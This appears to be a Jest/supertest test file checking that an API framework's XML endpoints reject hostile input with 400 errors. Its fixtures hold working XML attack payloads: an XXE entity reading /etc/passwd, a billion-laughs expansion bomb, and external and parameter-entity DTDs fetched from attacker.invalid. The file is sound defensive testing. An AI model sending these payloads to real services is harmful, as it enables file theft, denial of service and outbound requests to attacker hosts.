import request from 'supertest';
import { Feed, ProblemType, XmlDocument } from '../../src';
import { expectProblem, serve } from '../setup/negotiation-fixture';

const XXE = `<?xml version="1.0"?>
<!DOCTYPE book [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<book><title>&xxe;</title></book>`;

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 ${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n ')}
]>
<lolz>&lol9;</lolz>`;

const EXTERNAL_DTD = `<?xml version="1.0"?>
<!DOCTYPE book SYSTEM "http://attacker.invalid/book.dtd">
<book><title>Dune</title></book>`;

const PARAMETER_ENTITY = `<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]><r/>`;

describe('XML attacks', () => {
  const handler = jest.fn(() => 'ok');
  const app = serve((api) => {
    api.post('/objects').body(Object).handle(handler);
    api.post('/documents').body(XmlDocument).handle(handler);
    api.post('/feeds').body(Feed).handle(handler);
  });

  beforeEach(() => handler.mockClear());

  describe.each([
    ['/objects', 'application/xml'],
    ['/documents', 'text/xml'],
    ['/feeds', 'application/atom+xml'],
    ['/feeds', 'application/rss+xml'],
  ])('POST %s as %s', (path, type) => {
    it.each([
      ['an external entity (XXE)', XXE],
      ['nested entity expansion (billion laughs)', BILLION_LAUGHS],
      ['an external DTD', EXTERNAL_DTD],
      ['a parameter entity', PARAMETER_ENTITY],
    ])('answers 400 for %s, refusing its DOCTYPE before anything is expanded or fetched', async (_attack, body) => {
      const res = await request(app).post(path).set('Content-Type', type).send(body);
      const problem = expectProblem(res, 400);
      expect(problem.type).toBe(ProblemType.malformedBody);
      expect(problem.detail).toContain('<!DOCTYPE>');
      expect(res.text).not.toContain('root:');
      expect(handler).not.toHaveBeenCalled();
    });

    it('answers 400 for an entity that no DTD declares', async () => {
      const res = await request(app).post(path).set('Content-Type', type).send('<book><title>&xxe;</title></book>');
      expect(expectProblem(res, 400).type).toBe(ProblemType.malformedBody);
      expect(handler).not.toHaveBeenCalled();
    });
  });

  it('answers 400 for a billion laughs hidden at the end of a large body, refusing its DOCTYPE', async () => {
    const body = `<!-- ${'x'.repeat(200_000)} -->${BILLION_LAUGHS.replace('<?xml version="1.0"?>', '')}`;
    const res = await request(app).post('/objects').set('Content-Type', 'application/xml').send(body);
    expect(expectProblem(res, 400).detail).toContain('<!DOCTYPE>');
    expect(handler).not.toHaveBeenCalled();
  });

  it('still reads the five predefined entities and character references', async () => {
    const app = serve((api) => api.post('/echo').body(Object).handle(({ body }) => body));
    const res = await request(app).post('/echo').set('Content-Type', 'application/xml').set('Accept', 'application/json').send('<a><t>&lt;&amp;&gt;&quot;&apos;&#233;&#x263A;</t></a>');
    expect(res.body).toEqual({ t: '<&>"\'é☺' });
  });
});
